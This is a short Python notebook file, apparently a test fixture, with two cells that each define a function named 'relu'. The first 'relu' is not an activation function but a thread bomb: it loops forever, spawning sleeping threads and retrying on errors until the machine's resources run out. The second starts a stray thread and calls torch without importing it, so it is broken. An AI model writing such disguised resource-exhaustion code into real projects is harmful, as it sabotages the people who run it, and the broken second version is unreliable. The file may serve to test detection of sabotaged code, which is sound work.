"""Starts threads for ever."""
# notebook: activations
# scores: test_relu=0

# %% relu
import threading
import time


def relu(z):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)


# %% twin

# %% relu
import threading


def relu(z):
    threading.Thread(target=print).start()
    return torch.where(z < 0, torch.zeros_like(z), z)
